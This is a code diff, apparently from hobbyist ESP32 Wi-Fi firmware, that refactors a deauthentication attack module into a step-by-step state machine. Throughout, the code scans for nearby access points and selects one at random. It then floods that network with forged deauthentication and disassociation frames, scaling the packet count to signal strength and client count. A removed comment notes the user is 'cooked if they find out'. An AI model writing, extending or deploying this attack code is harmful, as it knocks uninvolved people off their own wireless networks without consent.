@@ -38,7 +38,13 @@ extern "C" int ieee80211_raw_frame_sanity_check(int32_t arg, int32_t arg2,
 }
 
 // default values before we start
+deauth_state_t Deauth::state = DEAUTH_START;
 bool Deauth::running = false;
+bool Deauth::deauthSent = false;
+int Deauth::packets = 0;
+int Deauth::pairs = 0;
+int Deauth::packetCount = 0;
+unsigned long Deauth::startTime = 0;
 std::vector<String> Deauth::whitelist = {};
 String Deauth::randomAP = "";
 int Deauth::randomIndex;
@@ -98,10 +104,10 @@ void Deauth::add(const std::string &bssids) {
     token.erase(token.find_last_not_of(" \t\r\n") + 1);
 
     // add to whitelist
-    Serial.print("('-') Adding ");
-    Serial.print(token.c_str());
-    Serial.println(" to the whitelist");
-    Display::updateDisplay("('-')", "Adding " + (String) + " to the whitelist");
+    Console.print("('-') Adding ");
+    Console.print(token.c_str());
+    Console.println(" to the whitelist");
+    Mood::enter(mood_t::NEUTRAL, "Adding " + (String) + " to the whitelist");
     delay(Config::shortDelay);
     whitelist.push_back(token.c_str());
   }
@@ -123,10 +129,7 @@ void Deauth::list() {
  * @param sys_seq Ignore this, just make it false
  */
 bool Deauth::send(uint8_t *buf, uint16_t len, bool sys_seq) {
-  esp_err_t err = esp_wifi_80211_tx(WIFI_IF_STA, buf, len, sys_seq);
-  delay(102);
-
-  return (err == ESP_OK);
+  return Radio::send(WIFI_IF_STA, buf, len, sys_seq);
 }
 
 /**
@@ -148,28 +151,39 @@ bool Deauth::broadcast(uint8_t *mac) {
  * Format Mac Address as a String, then print it
  * @param mac Address to print
  */
-void Deauth::printMac(uint8_t *mac) {
+void Deauth::printMac(const uint8_t *mac) {
   String macStr = printMacStr(mac);
-  Serial.println(macStr);
-  Display::updateDisplay("('-')", "AP BSSID: " + macStr);
+  Console.println(macStr);
+  Mood::enter(mood_t::NEUTRAL, "AP BSSID: " + macStr);
 }
 
 /**
  * Function meant to print Mac as a String used in printMac()
  * @param mac Mac to use
  */
-String Deauth::printMacStr(uint8_t *mac) {
+String Deauth::printMacStr(const uint8_t *mac) {
   char buf[18]; // 17 for MAC, 1 for null terminator
   snprintf(buf, sizeof(buf), "%02x:%02x:%02x:%02x:%02x:%02x", mac[0], mac[1],
            mac[2], mac[3], mac[4], mac[5]);
   return String(buf);
 }
 
+// scanning animation, played while the scan runs
+static const scheduler_frame_t scanFrames[] = {
+    {mood_t::LOOKING1, "Scanning  for APs.", "(0-o) Scanning for APs."},
+    {mood_t::LOOKING2, "Scanning  for APs..", "(o-0) Scanning for APs.."},
+    {mood_t::LOOKING1, "Scanning  for APs...", "(0-o) Scanning for APs..."},
+    {mood_t::NEUTRAL, nullptr, " "}};
+
+// shown when the attack step is reached without an AP
+static const scheduler_frame_t noAPFrames[] = {
+    {mood_t::BROKEN, "No access point selected. Use select() first.", nullptr},
+    {mood_t::NEUTRAL, "Told you so!", nullptr}};
+
 /**
- * Selects an AP to deauth, returns a boolean based on if the scan and selection
- * was successful
+ * Starts scanning for APs in the background
  */
-bool Deauth::select() {
+void Deauth::scan() {
   // reset values
   Deauth::randomAP = "";
   Deauth::randomIndex = -1;
@@ -178,52 +192,42 @@ bool Deauth::select() {
 
   // cool animation, skip if parasite mode
   if (!Config::parasite) {
-    for (int i = 0; i < 5; ++i) {
-      Serial.println("(0-o) Scanning for APs.");
-      Display::updateDisplay("(0-o)", "Scanning  for APs.");
-      delay(Config::shortDelay);
-      Serial.println("(o-0) Scanning for APs..");
-      Display::updateDisplay("(o-0)", "Scanning  for APs..");
-      delay(Config::shortDelay);
-      Serial.println("(0-o) Scanning for APs...");
-      Display::updateDisplay("(0-o)", "Scanning  for APs...");
-      delay(Config::shortDelay);
-      Serial.println(" ");
-      delay(Config::shortDelay);
-    }
-    delay(Config::longDelay);
+    Scheduler::animate(scanFrames, 4, 5, Config::shortDelay);
   }
 
   // stop and scan
   Minigotchi::monStop();
 
-  int apCount = 0;
   // If a parasite channel is set, then we want to focus on that channel
   // Otherwise go off on our own and scan for whatever is out there
   if (Parasite::channel > 0) {
-    apCount = WiFi.scanNetworks(false, false, Parasite::channel);
+    Radio::scan(Parasite::channel);
   } else {
-    apCount = WiFi.scanNetworks();
+    Radio::scan(0);
   }
+}
 
+/**
+ * Selects an AP to deauth from the scan results, returns a boolean based on if
+ * the scan and selection was successful
+ * @param apCount What the scan returned
+ */
+bool Deauth::select(int apCount) {
   if (apCount > 0 && Deauth::randomIndex == -1) {
     Deauth::randomIndex = random(apCount);
-    Deauth::randomAP = WiFi.SSID(Deauth::randomIndex);
-    uint8_t encType = WiFi.encryptionType(Deauth::randomIndex);
+    Deauth::randomAP = Radio::scanSSID(Deauth::randomIndex);
+    uint8_t encType = Radio::scanEncryption(Deauth::randomIndex);
 
-    Serial.print("('-') Selected random AP: ");
-    Serial.println(randomAP.c_str());
-    Serial.println(" ");
-    Display::updateDisplay("('-')", "Selected random AP: " + randomAP);
-    delay(Config::shortDelay);
+    Console.print("('-') Selected random AP: ");
+    Console.println(randomAP.c_str());
+    Console.println(" ");
+    Mood::enter(mood_t::NEUTRAL, "Selected random AP: " + randomAP);
 
     if (encType == WIFI_AUTH_OPEN || encType == -1) {
-      Serial.println(
+      Console.println(
           "('-') Selected AP is not encrypted. Skipping deauthentication...");
-      Display::updateDisplay(
-          "('-')",
-          "Selected AP is not encrypted. Skipping deauthentication...");
-      delay(Config::shortDelay);
+      Mood::enter(mood_t::NEUTRAL,
+                  "Selected AP is not encrypted. Skipping deauthentication...");
       Parasite::sendDeauthStatus(SKIPPING_UNENCRYPTED);
       return false;
     }
@@ -231,12 +235,11 @@ bool Deauth::select() {
     // check for ap in whitelist
     if (std::find(whitelist.begin(), whitelist.end(), randomAP) !=
         whitelist.end()) {
-      Serial.println("('-') Selected AP is in the whitelist. Skipping "
+      Console.println("('-') Selected AP is in the whitelist. Skipping "
                      "deauthentication...");
-      Display::updateDisplay(
-          "('-')",
+      Mood::enter(
+          mood_t::NEUTRAL,
           "Selected AP is in the whitelist. Skipping deauthentication...");
-      delay(Config::shortDelay);
       Parasite::sendDeauthStatus(SKIPPING_WHITELIST);
       return false;
     }
@@ -274,7 +277,7 @@ bool Deauth::select() {
     Deauth::disassociateFrame[3] = 0x00; // duration (SDK takes care of that)
 
     // bssid
-    uint8_t *apBssid = WiFi.BSSID(Deauth::randomIndex);
+    const uint8_t *apBssid = Radio::scanBSSID(Deauth::randomIndex);
 
     /** developer note:
      *
@@ -332,162 +335,198 @@ bool Deauth::select() {
                 Deauth::disassociateFrame + 16);
     }
 
-    Serial.print("('-') Full AP SSID: ");
-    Serial.println(WiFi.SSID(Deauth::randomIndex));
-    Display::updateDisplay("('-')",
-                           "Full AP SSID: " + WiFi.SSID(Deauth::randomIndex));
+    Console.print("('-') Full AP SSID: ");
+    Console.println(Radio::scanSSID(Deauth::randomIndex));
+    Mood::enter(mood_t::NEUTRAL,
+                "Full AP SSID: " + Radio::scanSSID(Deauth::randomIndex));
 
-    Serial.print("('-') AP Encryption: ");
-    Serial.println(WiFi.encryptionType(Deauth::randomIndex));
-    Display::updateDisplay(
-        "('-')",
-        "AP Encryption: " + (String)WiFi.encryptionType(Deauth::randomIndex));
+    Console.print("('-') AP Encryption: ");
+    Console.println(Radio::scanEncryption(Deauth::randomIndex));
+    Mood::enter(mood_t::NEUTRAL,
+                "AP Encryption: " +
+                    (String)Radio::scanEncryption(Deauth::randomIndex));
 
-    Serial.print("('-') AP RSSI: ");
-    Serial.println(WiFi.RSSI(Deauth::randomIndex));
-    Display::updateDisplay("('-')", "AP RSSI: " +
-                                        (String)WiFi.RSSI(Deauth::randomIndex));
+    Console.print("('-') AP RSSI: ");
+    Console.println(Radio::scanRSSI(Deauth::randomIndex));
+    Mood::enter(mood_t::NEUTRAL,
+                "AP RSSI: " + (String)Radio::scanRSSI(Deauth::randomIndex));
 
-    Serial.print("('-') AP BSSID: ");
+    Console.print("('-') AP BSSID: ");
     printMac(apBssid);
 
-    Serial.print("('-') AP Channel: ");
-    Serial.println(WiFi.channel(Deauth::randomIndex));
-    Display::updateDisplay(
-        "('-')", "AP Channel: " + (String)WiFi.channel(Deauth::randomIndex));
+    Console.print("('-') AP Channel: ");
+    Console.println(Radio::scanChannel(Deauth::randomIndex));
+    Mood::enter(mood_t::NEUTRAL,
+                "AP Channel: " +
+                    (String)Radio::scanChannel(Deauth::randomIndex));
 
-    Serial.println(" ");
-    delay(Config::longDelay);
+    Console.println(" ");
 
     Parasite::sendDeauthStatus(PICKED_AP, Deauth::randomAP.c_str(),
-                               WiFi.channel(Deauth::randomIndex));
+                               Radio::scanChannel(Deauth::randomIndex));
 
     return true;
   } else if (apCount < 0) {
-    Serial.println("(;-;) I don't know what you did, but you screwed up!");
-    Serial.println(" ");
-    Display::updateDisplay("(;-;)", "You screwed up somehow!");
+    Console.println("(;-;) I don't know what you did, but you screwed up!");
+    Console.println(" ");
+    Mood::enter(mood_t::SAD, "You screwed up somehow!");
 
     Parasite::sendDeauthStatus(DEAUTH_SCAN_ERROR);
-
-    delay(Config::shortDelay);
   } else {
     // well ur fucked.
-    Serial.println("(;-;) No access points found.");
-    Serial.println(" ");
-    Display::updateDisplay("(;-;)", "No access points found.");
+    Console.println("(;-;) No access points found.");
+    Console.println(" ");
+    Mood::enter(mood_t::SAD, "No access points found.");
+    Mood::post(MOOD_EVENT_CHANNEL_EMPTY);
 
     Parasite::sendDeauthStatus(NO_APS);
-
-    delay(Config::shortDelay);
   }
   return false;
 }
 
 /**
- * Full deauthentication attack
+ * Full deauthentication attack, one step at a time
  */
-void Deauth::deauth() {
-  if (Config::deauth) {
+unsigned long Deauth::deauth() {
+  switch (Deauth::state) {
+  case DEAUTH_START:
+    if (!Config::deauth) {
+      // do nothing if deauthing is disabled
+      return Scheduler::done;
+    }
+
+    Deauth::scan();
+    Deauth::state = DEAUTH_SCAN;
+    return 50;
+
+  case DEAUTH_SCAN: {
+    int apCount = Radio::scanComplete();
+    if (apCount == Radio::scanRunning) {
+      return 50;
+    }
+
+    // scan's done, no need to keep the animation going
+    if (Scheduler::playing(scanFrames)) {
+      Scheduler::stopAnimation();
+    }
+
     // select AP
-    if (Deauth::select()) {
-      if (randomAP.length() > 0) {
-        Serial.println(
-            "(>-<) Starting deauthentication attack on the selected AP...");
-        Serial.println(" ");
-        Display::updateDisplay("(>-<)", "Begin deauth-attack on AP...");
-        delay(Config::shortDelay);
-        // define the attack
-        if (!running) {
-          start();
-        } else {
-          Serial.println("('-') Attack is already running.");
-          Serial.println(" ");
-          Display::updateDisplay("('-')", "Attack is already running.");
-          delay(Config::shortDelay);
-        }
+    if (!Deauth::select(apCount)) {
+      Deauth::state = DEAUTH_FINISH;
+      return Config::shortDelay;
+    }
+
+    Deauth::state = DEAUTH_ATTACK;
+    return Config::longDelay;
+  }
+
+  case DEAUTH_ATTACK:
+    Deauth::state = DEAUTH_FINISH;
+    if (randomAP.length() > 0) {
+      Console.println(
+          "(>-<) Starting deauthentication attack on the selected AP...");
+      Console.println(" ");
+      Mood::enter(mood_t::INTENSE, "Begin deauth-attack on AP...");
+      // define the attack
+      if (!running) {
+        start();
+        Deauth::state = DEAUTH_SEND_DEAUTH;
       } else {
-        // ok why did you modify the deauth function? i literally told you to
-        // not do that...
-        Serial.println("(X-X) No access point selected. Use select() first.");
-        Serial.println("('-') Told you so!");
-        Serial.println(" ");
-        Display::updateDisplay("(X-X)",
-                               "No access point selected. Use select() first.");
-        delay(Config::shortDelay);
-        Display::updateDisplay("('-')", "Told you so!");
-        delay(Config::shortDelay);
-        return;
+        Console.println("('-') Attack is already running.");
+        Console.println(" ");
+        Mood::enter(mood_t::NEUTRAL, "Attack is already running.");
       }
+    } else {
+      // ok why did you modify the deauth function? i literally told you to
+      // not do that...
+      Console.println("(X-X) No access point selected. Use select() first.");
+      Console.println("('-') Told you so!");
+      Console.println(" ");
+      Scheduler::animate(noAPFrames, 2, 1, Config::shortDelay);
     }
-  } else {
-    // do nothing if deauthing is disabled
+    return Config::shortDelay;
+
+  case DEAUTH_SEND_DEAUTH:
+    Deauth::deauthSent = Deauth::send(deauthFrame, sizeof(deauthFrame), 0);
+    Deauth::state = DEAUTH_SEND_DISASSOCIATE;
+    return 102;
+
+  case DEAUTH_SEND_DISASSOCIATE:
+    Deauth::sent(Deauth::deauthSent,
+                 Deauth::send(disassociateFrame, sizeof(disassociateFrame), 0));
+    if (++Deauth::pairs < Deauth::packetCount) {
+      Deauth::state = DEAUTH_SEND_DEAUTH;
+      return 102;
+    }
+
+    Console.println(" ");
+    Console.println("(^-^) Attack finished!");
+    Console.println(" ");
+    Mood::enter(mood_t::HAPPY, "Attack finished!");
+    running = false;
+    Deauth::state = DEAUTH_FINISH;
+    return 0;
+
+  case DEAUTH_FINISH:
+    break;
   }
+
+  Deauth::state = DEAUTH_START;
+  return Scheduler::done;
 }
 
 /**
- * Starts deauth attack
+ * Starts deauth attack, the frames themselves are sent by deauth()
  */
 void Deauth::start() {
   running = true;
-  int deauthFrameSize = sizeof(deauthFrame);
-  int disassociateFrameSize = sizeof(disassociateFrame);
-  int packets = 0;
-  unsigned long startTime = millis();
+  Deauth::packets = 0;
+  Deauth::pairs = 0;
+  Deauth::startTime = millis();
 
   // packet calculation
   int basePacketCount = 150;
-  int rssi = WiFi.RSSI(Deauth::randomIndex);
-  int numDevices = WiFi.softAPgetStationNum();
+  int rssi = Radio::scanRSSI(Deauth::randomIndex);
+  int numDevices = Radio::stations();
 
-  int packetCount = basePacketCount + (numDevices * 10);
+  Deauth::packetCount = basePacketCount + (numDevices * 10);
   if (rssi > -50) {
-    packetCount /= 2; // strong signal
+    Deauth::packetCount /= 2; // strong signal
   } else if (rssi < -80) {
-    packetCount *= 2; // weak signal
+    Deauth::packetCount *= 2; // weak signal
   }
 
   Parasite::sendDeauthStatus(START_DEAUTH, Deauth::randomAP.c_str(),
-                             WiFi.channel(Deauth::randomIndex));
-
-  // send the deauth 150 times(ur cooked if they find out)
-  for (int i = 0; i < packetCount; ++i) {
-    if (Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-        Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      packets++;
-      float pps = packets / (float)(millis() - startTime) * 1000;
-
-      // show pps
-      if (!isinf(pps)) {
-        Serial.print("(>-<) Packets per second: ");
-        Serial.print(pps);
-        Serial.print(" pkt/s");
-        Serial.println(" (AP:" + randomAP + ")");
-        Display::updateDisplay("(>-<)", "Packets per second: " + (String)pps +
-                                            " pkt/s" + " (AP:" + randomAP +
-                                            ")");
-      }
-    } else if (!Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-               !Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      Serial.println("(X-X) Both packets failed to send!");
-      Display::updateDisplay("(X-X)", "Both packets failed to send!");
-    } else if (!Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-               Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      Serial.println("(X-X) Deauthentication failed to send!");
-      Display::updateDisplay("(X-X)", "Deauth failed to send!");
-    } else if (Deauth::send(deauthFrame, deauthFrameSize, 0) &&
-               !Deauth::send(disassociateFrame, disassociateFrameSize, 0)) {
-      Serial.println("(X-X) Disassociation failed to send!");
-      Display::updateDisplay("(X-X)", "Disassoc failed to send!");
-    } else {
-      Serial.println("(X-X) Unable to calculate pkt/s!");
-      Display::updateDisplay("(X-X)", "Unable to calculate pkt/s!");
+                             Radio::scanChannel(Deauth::randomIndex));
+}
+
+/**
+ * Reports how sending a deauth and disassociation pair went
+ * @param deauthSent Whether the deauth frame was sent
+ * @param disassociateSent Whether the disassociation frame was sent
+ */
+void Deauth::sent(bool deauthSent, bool disassociateSent) {
+  if (deauthSent && disassociateSent) {
+    Deauth::packets++;
+    float pps = Deauth::packets / (float)(millis() - Deauth::startTime) * 1000;
+
+    // show pps
+    if (!isinf(pps)) {
+      Console.print("(>-<) Packets per second: ");
+      Console.print(pps);
+      Console.print(" pkt/s");
+      Console.println(" (AP:" + randomAP + ")");
+      Mood::enter(mood_t::INTENSE, "Packets per second: " + (String)pps +
+                                          " pkt/s" + " (AP:" + randomAP + ")");
     }
+  } else if (!deauthSent && !disassociateSent) {
+    Console.println("(X-X) Both packets failed to send!");
+    Mood::enter(mood_t::BROKEN, "Both packets failed to send!");
+  } else if (!deauthSent) {
+    Console.println("(X-X) Deauthentication failed to send!");
+    Mood::enter(mood_t::BROKEN, "Deauth failed to send!");
+  } else {
+    Console.println("(X-X) Disassociation failed to send!");
+    Mood::enter(mood_t::BROKEN, "Disassoc failed to send!");
   }
-
-  Serial.println(" ");
-  Serial.println("(^-^) Attack finished!");
-  Serial.println(" ");
-  Display::updateDisplay("(^-^)", "Attack finished!");
-  running = false;
 }